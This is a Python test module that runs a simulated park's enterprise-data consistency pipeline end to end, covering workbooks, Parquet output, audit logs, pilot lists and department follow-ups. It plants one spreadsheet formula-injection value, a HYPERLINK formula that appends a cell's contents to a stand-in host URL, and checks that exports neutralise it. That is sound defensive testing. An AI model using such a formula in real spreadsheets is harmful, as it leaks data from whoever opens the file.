"""`ews consistency run` end to end on the tiny park's planted sources, written as a lake.

The run's files (per-department workbooks with Chinese headers and neutralised text, Parquet,
manifest), the site pages, the audit record; a second run that finds the same anomalies again;
a pilot list; a correction at the source closing its anomaly; a department's returned workbook.
"""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from data_contracts.catalog import load_all
from data_contracts.checksums import uscc_check
from data_contracts.rules import CompareRule, GapCheck, load_rules, load_topics
from data_contracts.simulate.consistency import plant, planting_sources
from data_contracts.simulate.sources import simulate_source
from data_contracts.simulate.world import build_world
from pipelines import audit, file_io, io
from pipelines import consistency_io as files
from pipelines.cases import open_store
from pipelines.cases.anomalies import follow_up_table
from pipelines.flows.consistency import consistency_flow, follow_up_flow, returns_flow
from pipelines.settings import Settings

pytestmark = pytest.mark.slow
END = dt.date(2026, 11, 20)
MASTER = "reg_enterprise_master"
HOSTILE = '=HYPERLINK("http://x/?"&B2,"点击")'


def write_lake(workdir: Path) -> Settings:
    contracts = load_all()
    rules = load_rules()
    world = build_world("tiny", 7, END)
    canonical = {s: simulate_source(world, contracts[s]) for s in planting_sources(rules)}
    frames, _ = plant(world, rules, canonical, contracts)
    master = simulate_source(world, contracts[MASTER])
    # A firm whose registered name would be a live formula in a spreadsheet.
    victim = frames["annual_report_basic"]["uscc"][0]
    frames[MASTER] = master.with_columns(
        pl.when(pl.col("uscc") == victim).then(pl.lit(HOSTILE)).otherwise("name").alias("name")
    )
    settings = Settings(workdir=workdir)
    for source, frame in frames.items():
        io.write_partition(settings.lake, source, "backfill-2026-10-23", frame)
    return settings


@pytest.fixture(scope="module")
def first(prefect_harness, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("consistency")
    settings = write_lake(workdir)
    summary = consistency_flow(workdir=str(workdir), as_of=END)
    return settings, summary


def test_the_run_writes_lists_per_department_with_a_manifest(first):
    settings, summary = first
    folder = Path(summary["folder"])
    assert folder == settings.consistency / "2026-11-20" / "park"
    anomalies = pl.read_parquet(folder / files.ANOMALIES)
    examined = pl.read_parquet(folder / files.EXAMINED)
    assert anomalies.height == summary["anomalies"] == examined["violated"].sum() > 10
    assert len(summary["by_topic"]) >= 6
    assert sum(summary["by_topic"].values()) == anomalies.height
    manifest = json.loads((folder / files.MANIFEST).read_text(encoding="utf-8"))
    for name, digest in manifest["files"].items():
        assert file_io.file_sha256(folder / name) == digest, name
    for department, count in summary["by_department"].items():
        listed = pl.read_parquet(folder / files.DEPARTMENTS / department / files.ANOMALIES)
        assert listed.height == count
        assert set(listed["department"]) == {department}
    assert not anomalies.select("anomaly_key").is_duplicated().any()


def test_a_department_workbook_has_chinese_headers_and_no_live_formula(first):
    _, summary = first
    folder = Path(summary["folder"])
    anomalies = pl.read_parquet(folder / files.ANOMALIES)
    hostile = anomalies.filter(pl.col("firm_name") == HOSTILE)
    assert not hostile.is_empty(), "the planted firm has an anomaly"
    department = hostile["department"][0]
    book = load_workbook(folder / files.DEPARTMENTS / department / files.WORKBOOK)
    sheet = book[files.LIST_SHEET]
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["异常编号", "统一社会信用代码", "企业名称"]
    assert headers[-3:] == [files.RESULT, files.DECIDED_ON, files.NOTE]
    names = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + HOSTILE in names
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert set(book.sheetnames) == {files.LIST_SHEET, files.NOTES_SHEET, files.EVIDENCE_SHEET}


def test_the_site_has_a_page_per_topic_and_the_audit_log_the_run(first):
    settings, summary = first
    index = (settings.site / "consistency" / "index.html").read_text(encoding="utf-8")
    for topic in load_topics().topics:
        assert topic.name.zh in index
        page = settings.site / "consistency" / "2026-11-20-park" / f"{topic.key}.html"
        assert page.is_file()
    assert HOSTILE not in index
    records = [r for r in audit.read_log(settings) if r["kind"] == "consistency"]
    assert records and records[0]["details"]["anomalies"] == summary["anomalies"]


def test_a_second_run_finds_the_same_anomalies_again_byte_for_byte(first):
    settings, summary = first
    folder = Path(summary["folder"])
    before = {
        n: file_io.file_sha256(folder / n)
        for n in (files.ANOMALIES, files.EXAMINED, files.EVIDENCE)
    }
    again = consistency_flow(workdir=str(settings.workdir), as_of=END)
    assert again["case_store"]["new"] == 0
    assert again["case_store"]["persisting"] == summary["anomalies"]
    assert {n: file_io.file_sha256(folder / n) for n in before} == before


def test_a_pilot_list_checks_only_its_firms_and_names_the_unknown(first, tmp_path):
    settings, summary = first
    anomalies = pl.read_parquet(Path(summary["folder"]) / files.ANOMALIES)
    chosen = anomalies["uscc"].unique().sort().to_list()[:3]
    body = "91320594MA1XXXXXX"  # a valid code that is not in the park
    unknown = body + uscc_check([body])[0]
    pilot = tmp_path / "pilot.csv"
    pilot.write_text(
        "统一社会信用代码\n" + "\n".join([*chosen, unknown, chosen[0]]) + "\n", encoding="utf-8"
    )
    result = consistency_flow(workdir=str(settings.workdir), as_of=END, firms_file=str(pilot))
    assert result["scope"].startswith("pilot-")
    assert result["firms_listed"] == 4
    assert result["unknown_firms"] == [unknown]
    listed = pl.read_parquet(Path(result["folder"]) / files.ANOMALIES)
    assert set(listed["uscc"]) <= set(chosen)
    assert listed.height == anomalies.filter(pl.col("uscc").is_in(chosen)).height


def test_a_pilot_list_with_a_bad_code_is_refused_naming_the_row(first, tmp_path):
    settings, _ = first
    pilot = tmp_path / "bad.csv"
    body = "91320594MA1XXXXXX"
    pilot.write_text(f"uscc\n{body}{uscc_check([body])[0]}\nnot-a-code\n", encoding="utf-8")
    with pytest.raises(files.FirmListError, match=r"bad.csv: row 3, column uscc: 'not-a-code'"):
        consistency_flow(workdir=str(settings.workdir), as_of=END, firms_file=str(pilot))


def _correctable(settings: Settings, folder: Path) -> tuple[dict, CompareRule]:
    """An anomaly of a gap rule whose left side is a row per period."""
    anomalies = pl.read_parquet(folder / files.ANOMALIES)
    examined = pl.read_parquet(folder / files.EXAMINED)
    rules = load_rules()
    for row in anomalies.iter_rows(named=True):
        rule = rules[row["rule_id"]]
        if (
            isinstance(rule, CompareRule)
            and isinstance(rule.check, GapCheck)
            and rule.left.aggregate == "value"
            and rule.simulation.derive == "left"
        ):
            found = examined.filter(
                (pl.col("rule_id") == rule.id)
                & (pl.col("uscc") == row["uscc"])
                & (pl.col("period") == row["period"])
            )
            return found.row(0, named=True), rule
    raise AssertionError("no correctable anomaly")


def test_an_anomaly_corrected_at_its_source_is_closed_by_the_next_run(first):
    settings, summary = first
    row, rule = _correctable(settings, Path(summary["folder"]))
    contract = load_all()[rule.left.source]
    lake = io.scan_source(settings.lake, rule.left.source).collect()
    original = lake.filter(
        (pl.col("uscc") == row["uscc"])
        & (pl.col(contract.event_time).cast(pl.Date) == row["period_start"])
    )
    assert original.height == 1
    value = row["right_number"] / rule.left.scale
    fixed = original.with_columns(
        pl.lit(value).cast(original.schema[rule.left.column]).alias(rule.left.column),
        pl.lit(dt.datetime(2026, 11, 25, 9))
        .cast(original.schema[contract.arrival_time])
        .alias(contract.arrival_time),
    ).select(contract.column_names)
    io.write_partition(settings.lake, rule.left.source, "2026-11-27", fixed)
    later = consistency_flow(workdir=str(settings.workdir), as_of=dt.date(2026, 11, 27))
    assert later["case_store"]["corrected"] >= 1
    store = open_store(settings)
    try:
        table = follow_up_table(store, load_topics())
    finally:
        store.dispose()
    key = f"{rule.id}|{row['uscc']}|{row['period']}"
    closed = table.filter(pl.col("anomaly_key") == key).row(0, named=True)
    assert (closed["status"], closed["by"]) == ("corrected", "run")


def test_a_returned_workbook_records_the_department_follow_up(first, tmp_path):
    settings, summary = first
    folder = Path(summary["folder"])
    department = next(iter(summary["by_department"]))
    returned = tmp_path / "returned.xlsx"
    shutil.copyfile(folder / files.DEPARTMENTS / department / files.WORKBOOK, returned)
    book = load_workbook(returned)
    sheet = book[files.LIST_SHEET]
    headers = [c.value for c in sheet[1]]
    key = sheet.cell(row=2, column=1).value
    sheet.cell(row=2, column=headers.index(files.RESULT) + 1).value = "误报"
    sheet.cell(row=2, column=headers.index(files.DECIDED_ON) + 1).value = "2026-11-26"
    sheet.cell(row=2, column=headers.index(files.NOTE) + 1).value = "已核实，数据口径不同"
    book.save(returned)
    result = returns_flow(workdir=str(settings.workdir), workbook=str(returned))
    assert result["recorded"] == 1
    rule_id = key.split("|")[0]
    assert result["precision"][rule_id] == 0.0
    precision = pl.read_parquet(settings.consistency / files.PRECISION)
    assert precision.filter(pl.col("rule_id") == rule_id)["false_alarm"].item() == 1


def test_a_returned_workbook_with_a_bad_result_changes_nothing(first, tmp_path):
    settings, summary = first
    folder = Path(summary["folder"])
    department = next(iter(summary["by_department"]))
    returned = tmp_path / "bad.xlsx"
    shutil.copyfile(folder / files.DEPARTMENTS / department / files.WORKBOOK, returned)
    book = load_workbook(returned)
    sheet = book[files.LIST_SHEET]
    headers = [c.value for c in sheet[1]]
    sheet.cell(row=3, column=headers.index(files.RESULT) + 1).value = "不清楚"
    book.save(returned)
    store = open_store(settings)
    before = len(store.batches())
    store.dispose()
    with pytest.raises(files.ReturnedWorkbookError, match=r"row 3, column 核查结果: '不清楚'"):
        returns_flow(workdir=str(settings.workdir), workbook=str(returned))
    store = open_store(settings)
    assert len(store.batches()) == before
    store.dispose()


def test_a_follow_up_of_an_unknown_anomaly_is_refused(first):
    settings, _ = first
    report = {"anomaly_key": "hc_report_vs_pension|91320594MA1XXXXXX1|1999", "status": "verified"}
    with pytest.raises(ValueError, match="no such anomaly"):
        follow_up_flow(workdir=str(settings.workdir), reports=[report], source="cli")
